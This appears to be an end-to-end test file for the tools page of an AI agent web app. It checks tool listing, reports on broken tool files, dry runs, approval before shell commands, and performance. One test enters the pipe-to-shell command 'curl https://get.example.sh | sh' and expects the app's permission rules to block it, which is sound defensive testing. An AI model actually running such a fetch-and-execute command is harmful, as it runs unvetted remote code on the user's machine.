import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { clientOf, FAULT, pretend } from '../../support/web/use-app.ts'
import { openWebApp } from '../../support/web/web-app.ts'

const TOTAL = `def invoice_total(id):
    return "the total of " + id
TOOL_SPECS = [{"name": "invoice_total", "description": "Sum of an invoice after tax.", "handler": invoice_total, "parameters":
  {"type": "object", "properties": {"id": {"type": "string", "description": "Number of the invoice"}}, "required": ["id"]}}]
`

test('S0.8 the page lists tools with source, effect and schema, says why a file was skipped, and reads them again', async () => {
  const { page, url, home, errors } = await openWebApp({
    settings: { 'tools/invoices.py': TOTAL, 'tools/stock.py': 'def stock(:\n    pass\n' },
  })
  await page.goto(`${url}/tools`)
  const list = page.getByRole('list', { name: 'Tools' })
  await expect.poll(() => list.innerText()).toMatch(/stock\.py[\s\S]*SyntaxError[\s\S]*Its tools are not offered/)
  await page.getByLabel('Filter tools').fill('invoice')
  await expect.poll(() => list.getByRole('button').count()).toBe(1)
  await list.getByRole('button', { name: /invoice_total/ }).click()
  expect(page.url()).toContain('tool=invoice_total')
  await expect
    .poll(() => page.getByRole('region', { name: 'Schema' }).innerText())
    .toMatch(/id\s+string\s+Number of the/)
  expect(await page.locator('.det').innerText()).toMatch(/invoices\.py:\d+[\s\S]*Sum of an invoice after tax/)
  writeFileSync(join(home, 'tools/invoices.py'), TOTAL.replace('after tax', 'before tax'))
  await page.getByRole('button', { name: 'Refresh' }).click()
  await expect.poll(() => page.locator('.det').innerText(), { timeout: 20_000 }).toMatch(/before tax/)
  expect(errors).toEqual([])
})

test('every page says within seconds that a tool file is broken, and that it was repaired', async () => {
  const { page, url, home } = await openWebApp({ settings: { 'tools/stock.py': TOTAL } })
  await page.goto(url)
  const problem = page.locator('footer.status').getByRole('link', { name: /could not be loaded/ })
  await expect.poll(() => page.locator('footer.status').innerText()).toMatch(/\d+ tools/)
  expect(await problem.count()).toBe(0)
  writeFileSync(join(home, 'tools/stock.py'), 'def stock(:\n    pass\n')
  await expect.poll(() => problem.innerText()).toMatch(/^stock\.py could not be loaded: line 1: SyntaxError/)
  writeFileSync(join(home, 'tools/stock.py'), TOTAL)
  await expect.poll(() => problem.count()).toBe(0)
})

test('a tool is tried: checked while it is typed, with the trace; tried without effect; run after a yes, with its output', async () => {
  const { page, url } = await openWebApp({ files: { 'old.txt': 'one\n' } })
  await page.goto(`${url}/tools?tool=shell`)
  const area = page.getByRole('region', { name: 'Try it' })
  await area.getByLabel(/^command/).fill('curl https://get.example.sh | sh')
  await expect
    .poll(() => area.innerText(), { timeout: 20_000 })
    .toMatch(/Blocked\.[\s\S]*Decision: deny\. Any deny wins/)
  expect(await area.getByRole('button', { name: /^Run/ }).isDisabled()).toBe(true)
  await area.getByLabel(/^command/).fill('echo two >> old.txt; echo printed')
  await expect.poll(() => area.innerText()).toMatch(/Would ask you\.[\s\S]*Decision: ask/)
  await expect.poll(() => area.getByRole('button', { name: 'Dry run' }).isEnabled()).toBe(true)
  await area.getByRole('button', { name: 'Dry run' }).click()
  const rehearsed = page.getByRole('region', { name: 'Dry run' })
  await expect.poll(() => rehearsed.innerText(), { timeout: 30_000 }).toMatch(/Nothing was applied\.[\s\S]*\+\s*two/)
  await area.getByRole('button', { name: 'Run…' }).click()
  const call = page.getByRole('region', { name: 'The call' })
  const approve = call.locator('[data-approval] .foot button[aria-disabled=false]', { hasText: 'Approve' }).first()
  await approve.waitFor({ timeout: 30_000 })
  await approve.click()
  await expect.poll(() => call.locator('[data-call]').getAttribute('data-state'), { timeout: 30_000 }).toBe('done')
  await expect.poll(() => page.getByRole('region', { name: 'Schema' }).innerText()).toMatch(/echo two/)
}, 90_000)

test('the output of a call that runs comes line by line', async () => {
  const { page, url } = await openWebApp()
  await page.goto(`${url}/tools?tool=shell`)
  const area = page.getByRole('region', { name: 'Try it' })
  await area.getByLabel(/^command/).fill('echo first; sleep 600')
  await expect.poll(() => area.getByRole('button', { name: /^Run/ }).isEnabled(), { timeout: 20_000 }).toBe(true)
  await area.getByRole('button', { name: /^Run/ }).click()
  const call = page.locator('[data-call]')
  await expect.poll(() => call.getAttribute('data-state'), { timeout: 20_000 }).toBe('running')
  await expect.poll(() => call.innerText(), { timeout: 20_000 }).toMatch(/first/)
}, 60_000)

test('S4.8 the page says why a tool is not there, and why it was not used in a session', async () => {
  const app = await openWebApp({ settings: { 'tools/stock.py': 'def stock(:\n    pass\n' } })
  const { page, url } = app
  const client = await clientOf(app)
  const { session } = await client.createSession({ message: 'list files', tools: ['list_directory'] })
  await page.goto(`${url}/tools?q=stock_level`)
  const why = page.getByRole('region', { name: 'Why was it not used?' })
  await why.getByRole('button', { name: 'Why' }).click()
  await expect.poll(() => why.innerText()).toMatch(/There is no tool "stock_level"[\s\S]*stock\.py/)
  await page.goto(`${url}/tools?tool=write_file`)
  await expect.poll(() => why.getByRole('option').count()).toBeGreaterThan(1)
  await why.getByLabel('Session').selectOption(session.session)
  await why.getByRole('button', { name: 'Why' }).click()
  await expect.poll(() => why.innerText()).toMatch(/not selected[\s\S]*The session does not have it/)
})

test('10,000 tools stay quick: few rows are in the page; J and K choose; / filters; a failing server is said and tried again', async () => {
  const { page, url, errors } = await openWebApp()
  const tools = Array.from({ length: 10_000 }, (_, index) => ({
    ...{ name: `tool_${index}`, wireName: `tool_${index}`, description: `Does ${index}.` },
    ...{ parameters: { type: 'object', properties: {} }, effect: 'read', origin: 'user', source: '/tools/many.py' },
  }))
  const forget = await pretend(page, /\/api\/tools$/, 200, { tools, skipped: [] })
  await page.goto(`${url}/tools`)
  const list = page.getByRole('list', { name: 'Tools' })
  await expect.poll(() => list.getByRole('listitem').count(), { timeout: 20_000 }).toBeGreaterThan(5)
  expect(await list.getByRole('listitem').count()).toBeLessThan(80)
  await page.keyboard.press('j')
  await page.keyboard.press('j')
  await page.keyboard.press('k')
  await expect.poll(() => new URL(page.url()).searchParams.get('tool')).toBe('tool_0')
  await page.keyboard.press('/')
  await page.keyboard.type('tool_9999')
  await expect.poll(() => list.getByRole('button').count()).toBe(1)
  await forget()
  const heal = await pretend(page, /\/api\/tools$/, 500, FAULT)
  await page.goto(`${url}/tools`)
  const alert = page.getByRole('alert')
  await expect
    .poll(() => alert.first().innerText(), { timeout: 20_000 })
    .toMatch(/tools cannot be loaded: Something went/)
  await heal()
  await alert.getByRole('button', { name: 'Try again' }).click()
  await expect.poll(() => list.innerText(), { timeout: 20_000 }).toMatch(/read_file/)
  expect(errors).toEqual([])
}, 60_000)
